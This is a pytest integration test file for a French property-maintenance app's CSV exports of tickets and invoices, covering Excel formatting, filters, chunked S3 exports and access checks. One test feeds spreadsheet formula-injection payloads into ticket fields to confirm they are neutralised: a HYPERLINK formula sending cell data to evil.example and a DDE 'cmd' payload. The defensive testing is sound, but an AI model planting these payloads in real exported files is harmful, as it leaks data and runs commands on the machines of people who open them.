"""Exports of the list and of the invoices: CSV French Excel opens (UTF-8 with BOM, semicolons,
decimal commas), accents and amounts intact, no formula that runs; large ones written to S3 a slice
per request with the progress shown, then a short-lived download; never a Scan."""

from __future__ import annotations

import csv
import io
import re
import urllib.request
from decimal import Decimal
from typing import Any
from urllib.parse import urlencode

import pytest
from chalice.test import Client

from chalicelib.data import directory, store
from chalicelib.domain import clock, forms, ids, tokens
from chalicelib.domain.forms import NewRequest
from chalicelib.usecases import completion, exports, tickets
from local.harness import recording_aws_calls
from tests.integration.conftest import FORM_HEADERS, People, contractor_path, new_ticket, tomorrow_paris
from tests.integration.test_admin import csrf_of, signed_in_headers
from tests.integration.test_timers import act, state


@pytest.fixture
def headers(client: Client, people: People) -> dict[str, str]:
    return signed_in_headers(client, people)


def invoiced(client: Client, people: People, title: str = "Fuite sous l'évier", excl: str = "1 234,56",
             rate: str = "10", incl: str = "1 358,02") -> Any:
    """A request accepted, then completed with its invoice (as the contractor's form records it)."""
    request = NewRequest("", "intervention", title, "Fuite au lot 12.", "14 rue des Lilas, Lyon", "", "urgent",
                         ("sms", "email"))
    ticket = tickets.create_request(people.manager, people.plumber, request, clock.now())
    act(client, contractor_path(ticket.ticket_id), "answer",
        {"decision": "accept", "planned_date": tomorrow_paris(), "planned_time": "09:00"})
    today = clock.paris(clock.now()).date()
    checked = forms.validate_completion(
        {"done_on": today.isoformat(), "invoice_amount_excl": excl, "invoice_vat_rate": rate, "invoice_amount": incl,
         "invoice_number": "F-2026-118"}, [("tickets/p.jpg", "p.jpg")], ["tickets/f.pdf"], ["facture.pdf"], today)
    assert checked.value is not None, checked.errors
    file = {"file_id": ids.new_id(), "key": "tickets/f.pdf", "name": "facture.pdf"}
    completion.complete(store.load_ticket(ticket.ticket_id), checked.value, [], [file], tokens.new_random_secret(),
                        clock.now())
    return ticket


def export(client: Client, headers: dict[str, str], kind: str, **filters: str) -> Any:
    page = client.http.get("/admin/tickets", headers=headers).body.decode()
    return client.http.post(f"/admin/exports/{kind}", headers={**FORM_HEADERS, **headers},
                            body=urlencode({"csrf": csrf_of(page), **filters}))


def rows_of(body: bytes) -> list[dict[str, str]]:
    """As a spreadsheet user's script reads the file: Python's csv module, semicolons, the BOM skipped."""
    assert body.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))


def euros(cell: str) -> Decimal:
    return Decimal(cell.replace(",", "."))


def test_the_list_exports_as_csv_french_excel_opens_with_accents_and_amounts_intact(
        client: Client, people: People, headers: dict[str, str]) -> None:
    ticket = invoiced(client, people)
    new_ticket(people)
    with recording_aws_calls() as calls:
        response = export(client, headers, "tickets", owner="all")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="relais-tickets-\d{4}-\d\d-\d\d\.csv"', response.headers["Content-Disposition"])
    rows = rows_of(response.body)
    assert len(rows) == 2
    row = next(r for r in rows if r["Référence"] == ticket.reference)
    assert row["Titre"] == "Fuite sous l'évier" and row["Adresse"] == "14 rue des Lilas, Lyon"
    assert row["Intervenant"] == "Karim Benali" and row["État"] == "Facturée" and row["Urgence"] == "Urgente"
    assert (euros(row["Facture HT"]), euros(row["Facture TVA"]), euros(row["Facture TTC"])) == (
        Decimal("1234.56"), Decimal("123.46"), Decimal("1358.02"))
    assert euros(row["Facture HT"]) + euros(row["Facture TVA"]) == euros(row["Facture TTC"])
    assert "Scan" not in calls.dynamodb()


def test_the_invoices_export_lists_each_invoice_with_ht_vat_and_ttc(client: Client, people: People,
                                                                    headers: dict[str, str]) -> None:
    first = invoiced(client, people)
    second = invoiced(client, people, "Remplacement du chauffe-eau", "2 000,00", "5.5", "2 110,00")
    new_ticket(people)  # no invoice: not in the export
    rows = rows_of(export(client, headers, "invoices", owner="all").body)
    assert sorted(r["Référence"] for r in rows) == sorted([first.reference, second.reference])
    water = next(r for r in rows if r["Référence"] == second.reference)
    assert (water["Taux de TVA (%)"], water["Montant HT"], water["TVA"], water["Montant TTC"]) == (
        "5,5", "2000,00", "110,00", "2110,00")
    assert water["Facture n°"] == "F-2026-118" and water["Titre"] == "Remplacement du chauffe-eau"


@pytest.mark.parametrize("title", ['=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', "+33 6 12 34 56 78",
                                   "-2+3", "@SUM(A1:A9)", "\tTAB", "=1+1;\"quoted\""])
def test_a_formula_in_a_field_is_neutralised(client: Client, people: People, headers: dict[str, str],
                                             title: str) -> None:
    request = NewRequest("", "intervention", title, "x", "=cmd|' /C calc'!A0", "", "normal", ("sms",))
    ticket = tickets.create_request(people.manager, people.plumber, request, clock.now())
    row = next(r for r in rows_of(export(client, headers, "tickets", owner="all").body)
               if r["Référence"] == ticket.reference)
    assert row["Titre"] == "'" + title  # shown as typed, never run
    assert row["Adresse"] == "'=cmd|' /C calc'!A0"


def test_the_export_keeps_the_lists_filters(client: Client, people: People, headers: dict[str, str]) -> None:
    mine = invoiced(client, people)
    other = directory.save_manager("Paul Durand", "paul.durand@gestion-demo.fr")
    request = NewRequest("", "intervention", "Portail", "x", "3 rue Neuve", "", "normal", ("sms",))
    tickets.create_request(other, people.plumber, request, clock.now())
    rows = rows_of(export(client, headers, "tickets", owner=people.manager.manager_id, state="invoiced").body)
    assert [r["Référence"] for r in rows] == [mine.reference]


def test_a_large_export_goes_to_s3_with_its_progress_then_a_short_download(
        client: Client, people: People, headers: dict[str, str], monkeypatch: pytest.MonkeyPatch) -> None:
    made = [invoiced(client, people, f"Intervention n°{n} à l'étage") for n in range(3)]
    for _ in range(26):  # more than a list page (25)
        new_ticket(people)
    whole = export(client, headers, "tickets", owner="all").body  # small enough for one answer
    monkeypatch.setattr(exports, "INLINE_JSON_BYTES", 100)
    monkeypatch.setattr(exports, "SLICE_SECONDS", -1.0)  # one list page per request: every step is seen
    started = export(client, headers, "tickets", owner="all")
    assert started.status_code == 303
    job = started.headers["Location"]
    page = client.http.get(job, headers=headers).body.decode()
    assert re.search(r"Export en cours : 25 lignes écrites", page) and 'src="/static/export.js"' in page
    answers = []
    while 'id="export-download"' not in page:
        answered = client.http.post(job, headers={**FORM_HEADERS, **headers, "Accept": "application/json"},
                                    body=urlencode({"csrf": csrf_of(page)}))
        answers.append(answered.json_body)
        page = client.http.get(job, headers=headers).body.decode()
        assert len(answers) < 10
    assert answers[-1] == {"status": "done", "rows": 29}
    assert "Terminé : 29 lignes." in page
    download = client.http.get(f"{job}/file", headers=headers)
    assert download.status_code == 302 and "X-Amz-Expires=300" in download.headers["Location"]
    with urllib.request.urlopen(download.headers["Location"]) as response:  # the moto server, on loopback
        body = response.read()
    assert body == whole
    assert {r["Titre"] for r in rows_of(body)} >= {t.title for t in made}


def test_another_managers_export_is_not_found(client: Client, people: People, headers: dict[str, str],
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    for _ in range(26):
        new_ticket(people)
    monkeypatch.setattr(exports, "INLINE_JSON_BYTES", 100)
    job = export(client, headers, "tickets", owner="all").headers["Location"]
    job_id = job.rsplit("/", 1)[1]
    from chalicelib.data import export_jobs

    assert export_jobs.find(job_id, people.manager.manager_id) is not None
    assert export_jobs.find(job_id, ids.new_id()) is None
    assert client.http.get("/admin/exports/jobs/not-a-job", headers=headers).status_code == 404
    assert client.http.get(f"{job}/file", headers=headers).status_code == 404  # not written yet


def test_an_unknown_export_kind_is_not_found(client: Client, people: People, headers: dict[str, str]) -> None:
    assert export(client, headers, "everything").status_code == 404


def test_an_invoice_whose_amounts_do_not_add_up_is_refused_and_nothing_is_written(client: Client, people: People) -> None:
    ticket = new_ticket(people)
    path = contractor_path(ticket.ticket_id)
    act(client, path, "answer", {"decision": "accept", "planned_date": tomorrow_paris(), "planned_time": "09:00"})
    before = store.load_ticket(ticket.ticket_id)
    refused = act(client, path, "completion", [
        ("done_on", clock.paris(clock.now()).date().isoformat()), ("invoice_amount_excl", "400,00"),
        ("invoice_vat_rate", "20"), ("invoice_amount", "479,99"), ("invoice_number", "F-1")])
    assert refused.status_code == 400
    assert "HT + TVA ne font pas le TTC : 400,00 € + 80,00 € = 480,00 €, et non 479,99 €." in refused.body.decode()
    after = store.load_ticket(ticket.ticket_id)
    assert state(ticket.ticket_id) == "scheduled" and after.ticket.invoice is None
    assert len(after.events) == len(before.events)


def test_a_file_larger_than_an_s3_part_is_sent_in_parts_and_its_tail_kept_between_slices(people: People) -> None:
    """The multipart path as S3 takes it (5 MiB parts but the last, which moto enforces too)."""
    from chalicelib.aws import clients, export_files
    from chalicelib.config import settings
    from chalicelib.data import export_jobs

    now = clock.now()
    job = export_jobs.create(people.manager.manager_id, "tickets", "fr", {}, now)
    assert export_jobs.claim(job, now)
    first = b"a" * (export_files.PART_BYTES + 10)
    writer = exports._Writer(job, b"header\r\n")
    writer.add(first)
    writer.add(b"tail of the first slice\r\n")
    writer.pause(2, {"step": 0, "cursor": None})
    assert export_jobs.claim(job, now) and len(job.parts) == 1
    assert not export_jobs.claim(job, now)  # held by the slice under way
    again = exports._Writer(job, export_files.read_tail(exports._key(job, "tail")))
    again.add(b"last row\r\n")
    again.finish(3, now)
    assert job.status == "done" and len(job.parts) == 2
    stored = clients.client("s3").get_object(Bucket=settings().bucket_name, Key=exports._key(job, "csv"))["Body"].read()
    assert stored == b"header\r\n" + first + b"tail of the first slice\r\nlast row\r\n"


def test_a_search_page_offers_no_export_of_tickets_it_does_not_show(client: Client, people: People) -> None:
    """The exports read the list's filters, not the search box: a search page would export other tickets."""
    new_ticket(people)
    headers = signed_in_headers(client, people)
    listed = client.http.get("/admin/tickets", headers=headers).body.decode()
    assert 'id="export-tickets"' in listed
    searched = client.http.get("/admin/tickets?" + urlencode({"q": "lilas"}), headers=headers).body.decode()
    assert 'id="export-tickets"' not in searched and 'id="export-invoices"' not in searched
